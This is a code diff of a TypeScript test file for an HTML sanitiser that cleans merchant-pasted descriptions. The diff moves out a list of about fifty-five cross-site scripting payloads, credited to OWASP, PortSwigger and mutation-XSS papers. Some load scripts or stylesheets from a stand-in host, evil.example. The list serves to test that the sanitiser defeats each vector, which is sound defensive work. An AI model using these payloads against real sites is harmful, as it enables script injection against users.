@@ -1,6 +1,7 @@
 /** What a merchant pastes can look odd, but it cannot run, and it cannot close our page's elements. */
 import { describe, expect, test } from "bun:test";
 import fc from "fast-check";
+import { vectors } from "../../test/browser/cross-site-vectors.ts";
 import { sanitiseHtml } from "./sanitise-html.ts";
 
 const allowed: Readonly<Record<string, readonly string[]>> = {
@@ -45,66 +46,6 @@ async function complaints(markup: string): Promise<string[]> {
   if (/[<>]/.test(text)) found.push("a bare angle bracket");
   return found;
 }
-
-/** From the OWASP and PortSwigger cheat sheets, and from the mutation-XSS papers. */
-export const vectors = [
-  "<script>alert(1)</script>",
-  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
-  "<script/xss src=//evil.example>",
-  "<<script>alert(1);//<</script>",
-  "<img src=x onerror=alert(1)>",
-  "<img src=x onerror=alert(1)//",
-  "<img/src=x/onerror=alert(1)>",
-  '<img src="javascript:alert(1)">',
-  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
-  "<a href=javascript:alert(1)>x</a>",
-  '<a href="JaVaScRiPt:alert(1)">x</a>',
-  '<a href="java&#10;script:alert(1)">x</a>',
-  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
-  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
-  '<a href="javascript&colon;alert(1)">x</a>',
-  '<a href="java&Tab;script&colon;alert(1)">x</a>',
-  '<a href="\u0001javascript:alert(1)">x</a>',
-  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
-  '<a href="vbscript:x">x</a>',
-  "<svg onload=alert(1)>",
-  "<svg><script>alert(1)</script></svg>",
-  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
-  '<svg><p><style><a id="</style><img src=1 onerror=alert(1)>">',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  "<template><img src=x onerror=alert(1)></template>",
-  "<iframe src=javascript:alert(1)></iframe>",
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="javascript:alert(1)"></object>',
-  '<embed src="javascript:alert(1)">',
-  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-  '<base href="https://evil.example/">',
-  "<link rel=stylesheet href=https://evil.example/x.css>",
-  "<style>@import 'https://evil.example/x.css'</style>",
-  '<p style="background:url(javascript:alert(1))">x</p>',
-  '<div onmouseover="alert(1)">x</div>',
-  "<details open ontoggle=alert(1)>x</details>",
-  "<video><source onerror=alert(1)></video>",
-  "<input autofocus onfocus=alert(1)>",
-  "<body onload=alert(1)>",
-  "<!--><script>alert(1)</script>-->",
-  "<!-- --!><script>alert(1)</script> -->",
-  "<![CDATA[<script>alert(1)</script>]]>",
-  "<?xml version=1?><script>alert(1)</script>",
-  "<textarea><script>alert(1)</script>",
-  "<title><img src=x onerror=alert(1)></title>",
-  "<xmp><script>alert(1)</script></xmp>",
-  "<p title='</p><script>alert(1)</script>'>x</p>",
-  '<a title="\'><script>alert(1)</script>" href=/x>x</a>',
-  "</div></main><script>alert(1)</script>",
-  "<table><td><script>alert(1)</script></table>",
-  "<a href='https://ok.example' href='javascript:alert(1)'>x</a>",
-  "<img src=https://ok.example/x.png src=x onerror=alert(1)>",
-  "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
-  "<p><a href=//evil.example>x",
-];
 
 describe("sanitising a description", () => {
   test("makes every known vector harmless", async () => {
